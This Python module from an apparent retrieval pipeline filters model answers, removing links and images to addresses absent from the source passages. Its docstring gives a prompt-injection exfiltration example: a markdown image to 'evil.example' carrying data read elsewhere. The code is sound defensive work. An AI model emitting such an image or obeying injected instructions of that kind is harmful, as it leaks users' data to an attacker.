"""Links and images in answers: only addresses of the passages get through, and no image loads by itself.

A document can ask a model to write ``![](https://evil.example/?q=...)`` with what it read elsewhere; a page
that shows the answer would send it there. So an address that stands in no passage is taken out, and an image
of one that does becomes a link: which of several images is shown could tell something, too. A construct is
held back until it is complete, or taken out when it gets too long; other text is never held back.
"""

import re
from collections.abc import Callable

from vectorforge.pipeline import link_patterns as patterns
from vectorforge.pipeline.addresses import KnownAddresses, is_external, without_punctuation

REMOVED = "[link removed]"

_LONGEST = 2_000
"""Characters of a construct that are held back; a longer one is taken out."""
_LONGEST_TITLE = 400
_CONTEXT = 80
"""Characters written last that say what the next ones mean: a scheme, a host's labels."""
_Step = tuple[str, int] | None
"""What is written for a construct and where it ends; None: more of it has to be read first."""


class LinkFilter:
    """Passes an answer on, piece by piece, without what leads out of it.

    The pieces may be cut anywhere: joined, what comes out is the same for all cuts.

    Args:
        known: Addresses that may stay.
    """

    def __init__(self, known: KnownAddresses) -> None:
        self._known = known
        self._written = ""
        """The end of what was passed on: constructs are seen as the reader will see them."""
        self._held = ""
        self._in_image = False
        """Whether an image's text may be open in this paragraph."""
        self._is_whole = False
        self._swallowing = False
        self.changes = 0
        """Addresses taken out, and images that became links."""
        self._resolvers: dict[str, Callable[[str, int], _Step]] = {
            name: getattr(self, f"_{name}") for name in patterns.TRIGGER.groupindex
        }

    def feed(self, text: str) -> str:
        """What can be passed on with the next piece; often all of it."""
        in_construct = self._held or self._swallowing or self._written[-1:] == "."
        if not in_construct and not patterns.may_begin_in(text):
            self._note(text)
            return text
        return self._scan(text)

    def finish(self) -> str:
        """The rest, when the answer is complete."""
        self._is_whole = True
        return self._scan("") if self._held else ""

    def _scan(self, text: str) -> str:
        rest, self._held = self._held + text, ""
        passed: list[str] = []
        while rest:
            if self._swallowing:
                rest = rest[_end(patterns.SWALLOWED, rest) :]
                self._swallowing = not rest
                continue
            start = len(self._written)
            seen = self._written + rest
            found = patterns.TRIGGER.search(seen, start)
            if found is None:
                self._pass(rest, passed)
                break
            self._pass(seen[start : found.start()], passed)
            step = self._resolvers[str(found.lastgroup)](seen, found.start())
            if step is None:
                self._held = seen[found.start() :]
                break
            self._pass(step[0], passed)
            rest = seen[step[1] :]
        return "".join(passed)

    def _pass(self, text: str, passed: list[str]) -> None:
        passed.append(text)
        self._note(text)

    def _note(self, text: str) -> None:
        if "[" in text or "\n" in text:
            for found in patterns.IMAGE_OR_BREAK.finditer(self._written + text):
                self._in_image = found[0][0] == "!"
        self._written = (self._written + text)[-_CONTEXT:]

    def _ends(self, seen: str, end: int) -> bool:
        """Whether what ends there is certain to end there."""
        return end < len(seen) or self._is_whole

    def _remove(self, written: str, end: int) -> _Step:
        self.changes += 1
        return written, end

    def _too_long(self, start: int, lead: str = "") -> _Step:
        self._swallowing = True
        return self._remove(lead + REMOVED, start + _LONGEST)

    def _destination(self, seen: str, start: int) -> tuple[int, int] | None:
        """Where a destination begins and ends that may have a line break before it; None: not yet known."""
        begin = _end(patterns.BLANK, seen, start)
        if not self._ends(seen, begin):
            return None
        if seen.startswith("<", begin):
            end = _end(patterns.POINTED, seen, begin)
            end += seen.startswith(">", end)
            return (begin, end) if end - begin > _LONGEST or self._ends(seen, end) else None
        depth, end = 0, begin
        while end < len(seen) and not seen[end].isspace() and end - begin <= _LONGEST:
            depth += (seen[end] == "(") - (seen[end] == ")")
            if depth < 0:
                break
            end += 1
        return (begin, end) if end - begin > _LONGEST or self._ends(seen, end) else None

    def _link(self, seen: str, start: int) -> _Step:
        """``(destination "title")`` behind a link's or an image's text."""
        place = self._destination(seen, start + 1)
        if place is None:
            return None
        begin, end = place
        destination = seen[begin:end].strip("<>")
        if not is_external(destination):
            return (" (" if begin == end and begin - start > 100 else "("), start + 1
        if len(destination) > _LONGEST:
            return self._too_long(start, " ")
        if self._known.has(destination):
            self.changes += self._in_image
            return (" " if self._in_image else "") + seen[start:end], end
        decided = patterns.TITLE_DECIDED.search(seen, end, end + _LONGEST_TITLE)
        if decided is None and len(seen) - end < _LONGEST_TITLE and not self._is_whole:
            return None
        title = patterns.TITLE.match(seen, end, end + _LONGEST_TITLE)
        return self._remove("", title.end() if title else end)

    def _definition(self, seen: str, start: int) -> _Step:
        """``: destination`` behind a reference's label; it would make links and images of other places."""
        place = self._destination(seen, start + 1)
        if place is None:
            return None
        begin, end = place
        destination = seen[begin:end].strip("<>")
        if not is_external(destination):
            return (" :" if begin == end and begin - start > 100 else ":"), start + 1
        if len(destination) > _LONGEST:
            return self._too_long(start, " : ")
        if self._known.has(destination):
            return " " + seen[start:end], end
        return self._remove(f" : {REMOVED}", end)

    def _style(self, seen: str, start: int) -> _Step:
        """``(address)`` behind ``url`` in a style sheet."""
        end = seen.find(")", start, start + _LONGEST)
        if end < 0 and len(seen) - start < _LONGEST and not self._is_whole:
            return None
        if end < 0:
            end = min(len(seen), start + _LONGEST)
        destination = seen[start + 1 : end].strip(" \t\r\n\"'")
        if not is_external(destination):
            return seen[start], start + 1
        if self._known.has(destination):
            return " (", start + 1
        return self._remove(f" ({REMOVED}", end)

    def _angle(self, seen: str, start: int) -> _Step:
        """``<https://...>`` or a start tag."""
        if not self._is_whole and patterns.ANGLE_SO_FAR.fullmatch(seen, start):
            return None
        if (link := patterns.AUTOLINK.match(seen, start)) is not None:
            if link.end() - start > _LONGEST:
                return self._too_long(start)
            if not self._ends(seen, link.end()):
                return None
            leads_out = seen.startswith(">", link.end()) and patterns.REFERENCE.search(link[1])
            if leads_out and not self._known.has(link[1]):
                return self._remove(REMOVED, link.end() + 1)
            return "<", start + 1
        name = patterns.TAG_NAME.match(seen, start)
        if name is not None and name[1].lower() == "style":
            return self._escaped(seen, start)  # what it holds is not looked into
        if name is None or seen[name.end()] == ">":
            return "<", start + 1
        return self._tag(seen, start, name)

    def _tag(self, seen: str, start: int, name: re.Match[str]) -> _Step:
        end, limit = name.end(), start + _LONGEST
        while end < limit and not seen.startswith(">", end):
            part = patterns.TAG_PART.match(seen, end)
            if part is None or not self._ends(seen, part.end()):
                break
            end = part.end()
        if end >= limit or not seen.startswith(">", end):
            if len(seen) < limit and not self._is_whole:
                return None
            return self._escaped(seen, start)
        return self._whole_tag(seen, start, end + 1, name[1].lower())

    def _whole_tag(self, seen: str, start: int, end: int, name: str) -> _Step:
        from html import unescape

        tag = unescape(seen[start:end])
        if not patterns.REFERENCE.search("".join(tag.split())):
            return seen[start:end], end
        addresses = patterns.ADDRESS.findall(tag)
        others = patterns.REFERENCE.search("".join(patterns.ADDRESS.sub("", tag).split()))
        if others or not addresses or not all(map(self._known.has, addresses)):
            return self._remove(REMOVED, end)
        return (seen[start:end], end) if name == "a" else self._escaped(seen, start)

    def _escaped(self, seen: str, start: int) -> _Step:
        """``<`` as text; apart from what is before it, which may be an address in angle brackets."""
        return "&lt;" if start == 0 or seen[start - 1].isspace() else " &lt;", start + 1

    def _web(self, seen: str, start: int) -> _Step:
        """``https://...`` and ``www. ...``, or what may become one."""
        if seen[start:].lower() in patterns.BEGINNINGS:
            return (seen[start], start + 1) if self._is_whole else None
        return self._bare(seen, start)

    def _scheme(self, seen: str, start: int) -> _Step:
        """``//...`` behind a scheme that has been passed on."""
        if not seen.startswith("//", start):
            return (seen[start], start + 1) if self._is_whole else None
        if not self._ends(seen, start + 2):
            return None
        if seen[start + 2 : start + 3].strip(" \t\r\n,.;)") == "":
            return "//", start + 2
        scheme = patterns.SCHEME_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        return self._bare(seen, start, scheme[0] if scheme else "")

    def _relative(self, seen: str, start: int) -> _Step:
        """``//example.com/...``, of which some programs make links, too."""
        end = _end(patterns.RUN, seen, start)
        if end - start <= _LONGEST and not self._ends(seen, end):
            return None
        return (
            self._bare(seen, start) if patterns.RELATIVE.match(seen, start, end) else (seen[start], start + 1)
        )

    def _host(self, seen: str, start: int) -> _Step:
        """``com/...`` behind ``example.``: many programs make links of that, too."""
        labels = patterns.LABELS_BEFORE.search(seen[max(0, start - _CONTEXT) : start])
        end = _end(patterns.RUN, seen, start)
        if end - start <= _LONGEST and not self._ends(seen, end):
            return None
        if labels is None or not patterns.HOST.match(labels[0] + seen[start:end]):
            return seen[start], start + 1
        return self._bare(seen, start, labels[0])

    def _bare(self, seen: str, start: int, prefix: str = "") -> _Step:
        """An address in the text; a part of it may have been passed on."""
        end = _end(patterns.RUN, seen, start)
        if end - start > _LONGEST:
            return self._too_long(start)
        if not self._ends(seen, end):
            return None
        run = seen[start:end]
        kept = self._known.known_start(run, prefix)
        if kept is not None:
            if patterns.BELONGS_TO_IT.search(run, len(kept)):
                return kept + " ", start + len(kept)
            return run + (" " if seen[end : end + 1].isalnum() else ""), end
        run = run[: _end(patterns.REMOVED_RUN, run)]
        slashes = patterns.SLASHES.match(run)
        length = max(len(without_punctuation(run)), slashes.end() if slashes else 1)
        return self._remove(REMOVED, start + length)


def _end(pattern: re.Pattern[str], text: str, start: int = 0) -> int:
    found = pattern.match(text, start)
    return start if found is None else found.end()


def without_foreign_links(text: str, known: KnownAddresses) -> str:
    """A text that is there as a whole, as ``LinkFilter`` would pass it on."""
    links = LinkFilter(known)
    return links.feed(text) + links.finish()
